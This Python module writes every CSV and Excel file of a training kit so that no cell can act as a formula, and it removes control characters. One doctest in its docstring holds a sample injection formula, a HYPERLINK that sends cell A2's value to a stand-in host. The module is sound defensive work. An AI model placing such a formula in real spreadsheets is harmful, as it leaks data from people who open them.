"""Spreadsheets and CSV files that are safe to open: the one writer of every table the kit saves.

A facilitator opens the dashboard's workbook in Excel or LibreOffice; an analyst opens an
import's ``data.csv``. Text in those files comes from people (a trainee's name and written
feedback, a unit name in a region's export), so it is written in a way that no cell can act:

- **No formulas** (CSV/formula injection, OWASP "CSV Injection"): a text cell that starts
  with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text. In an xlsx
  workbook the cell is stored as a string with Excel's quote prefix (the value stays exactly
  what was typed, it only cannot be evaluated); in a CSV file, which has no types, the cell
  gets a leading apostrophe, the form spreadsheet programs read as "this is text".
- **No control characters**: the C0 and C1 control characters (except tab and line breaks
  inside a text) and the bidirectional overrides (which can make a name read backwards in a
  table) are removed. openpyxl refuses C0 characters outright, so one such character in one
  trainee's name used to stop the whole export.

Numbers, dates and booleans are written as they are: only text is changed. Every writer of
the kit goes through :func:`write_csv` and :func:`write_workbook` (a test checks that no other
module calls ``to_csv``, ``to_excel`` or ``ExcelWriter``).

Examples
--------
>>> safe_text('=HYPERLINK("http://x?d="&A2,"klik")')
'\\'=HYPERLINK("http://x?d="&A2,"klik")'
>>> safe_text("Siti\\x01 Rahma"), safe_text("-5 hari"), safe_text("Baik")
('Siti Rahma', "'-5 hari", 'Baik')
>>> clean_text("abc\\u202edcba")
'abcdcba'
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd

__all__ = [
    "FORMULA_STARTS",
    "clean_frame",
    "clean_text",
    "csv_frame",
    "safe_text",
    "workbook_bytes",
    "write_csv",
    "write_workbook",
]

#: Characters that make a spreadsheet program read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# C0 controls but tab, line feed and carriage return; DEL; C1 controls; the bidirectional
# embeddings, overrides and isolates (U+202A-U+202E, U+2066-U+2069).
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")


def clean_text(value: str) -> str:
    """``value`` without control characters and bidirectional overrides."""
    return _CONTROL.sub("", value)


def safe_text(value: str) -> str:
    """``value`` cleaned and, when it starts like a formula, marked as text with an apostrophe.

    For CSV files; in workbooks :func:`write_workbook` keeps the text and sets the cell's type.
    A text that starts with a tab or carriage return keeps it after the apostrophe.
    """
    text = clean_text(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _map_text(frame: pd.DataFrame, function) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
            out[column] = series.map(lambda v: function(v) if isinstance(v, str) else v)
    out.columns = [function(c) if isinstance(c, str) else c for c in out.columns]
    return out


def clean_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and headers have no control characters."""
    return _map_text(frame, clean_text)


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` ready for a CSV file: every text cell and header passed through
    :func:`safe_text`.
    """
    return _map_text(frame, safe_text)


def write_csv(frame: pd.DataFrame, path, *, index: bool = False) -> Path:
    """Write ``frame`` as UTF-8 CSV (line feed endings) with :func:`safe_text` on every text
    cell.
    """
    path = Path(path)
    shown = frame.reset_index() if index else frame
    csv_frame(shown).to_csv(path, index=False, lineterminator="\n")
    return path


def _sheet_name(name: str, taken: set[str]) -> str:
    """A valid, unique sheet name: no ``[]:*?/\\``, at most 31 characters."""
    base = _SHEET_NAME_BAD.sub("_", clean_text(str(name))).strip("'") or "sheet"
    base, candidate, number = base[:31], base[:31], 2
    while candidate.lower() in taken:
        suffix = f" ({number})"
        candidate, number = base[: 31 - len(suffix)] + suffix, number + 1
    taken.add(candidate.lower())
    return candidate


def _mark_text(worksheet) -> None:
    """Every text cell that would start a formula becomes a plain string with a quote prefix."""
    for row in worksheet.iter_rows():
        for cell in row:
            value = cell.value
            if isinstance(value, str) and (
                cell.data_type == "f" or value.startswith(FORMULA_STARTS)
            ):
                cell.data_type = "s"
                cell.quotePrefix = True


def _write_sheets(target, tables: dict[str, pd.DataFrame], style) -> None:
    taken: set[str] = set()
    with pd.ExcelWriter(target, engine="openpyxl") as writer:
        for name, table in tables.items():
            sheet = _sheet_name(name, taken)
            clean_frame(table).to_excel(writer, sheet_name=sheet, index=False)
            worksheet = writer.sheets[sheet]
            _mark_text(worksheet)
            if style is not None:
                style(worksheet)


def workbook_bytes(tables: dict[str, pd.DataFrame], *, style=None) -> bytes:
    """An xlsx workbook of ``tables`` (sheet name -> table) as bytes, every text cell inert.

    ``style``, if given, is called with each openpyxl worksheet after its cells are written
    (column widths, bold headers, ...). Sheet names are made valid and unique (Excel allows 31
    characters and no ``[]:*?/\\``).
    """
    buffer = io.BytesIO()
    _write_sheets(buffer, tables, style)
    return buffer.getvalue()


def write_workbook(tables: dict[str, pd.DataFrame], path, *, style=None) -> Path:
    """Write :func:`workbook_bytes` of ``tables`` to ``path`` and return it."""
    path = Path(path)
    path.write_bytes(workbook_bytes(tables, style=style))
    return path
